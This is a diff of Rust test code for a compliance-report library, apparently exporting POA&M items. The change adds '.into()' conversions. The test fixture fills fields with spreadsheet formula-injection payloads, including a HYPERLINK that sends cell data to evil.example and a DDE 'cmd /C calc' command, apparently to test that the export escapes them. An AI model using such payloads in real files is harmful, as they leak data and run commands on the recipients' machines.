@@ -60,9 +60,9 @@ fn risky_poam() -> Poam {
     let mut poam = Poam::default();
     for (k, lead) in leads.iter().enumerate() {
         let mut item = PoamItem::new(format!("V-{}", k + 1), d("2026-01-05"), RiskRating::High);
-        item.weakness_name = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
-        item.weakness_description = format!("{lead}1+1");
-        item.overall_remediation_plan = format!("{lead}cmd|' /C calc'!A0");
+        item.weakness_name = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")").into();
+        item.weakness_description = format!("{lead}1+1").into();
+        item.overall_remediation_plan = format!("{lead}cmd|' /C calc'!A0").into();
         item.point_of_contact = format!("{lead}SUM(1,2)");
         item.comments = Some(format!("{lead}2+3"));
         item.deviation_rationale = Some(format!("'{lead}already quoted"));
@@ -425,7 +425,7 @@ fn vdr_item(id: &str, detected: &str, evaluated: Option<&str>, n: u8, irv: bool,
     use conmon_core::model::{NRating, VdrFacts};
     let t = |s: &str| -> chrono::DateTime<chrono::Utc> { s.parse().unwrap() };
     let mut item = PoamItem::new(id, t(detected).date_naive(), RiskRating::Moderate);
-    item.weakness_name = format!("Weakness of {id}");
+    item.weakness_name = format!("Weakness of {id}").into();
     item.weakness_detector_source = "Nessus".into();
     item.vdr = Some(VdrFacts {
         detected_at: t(detected),
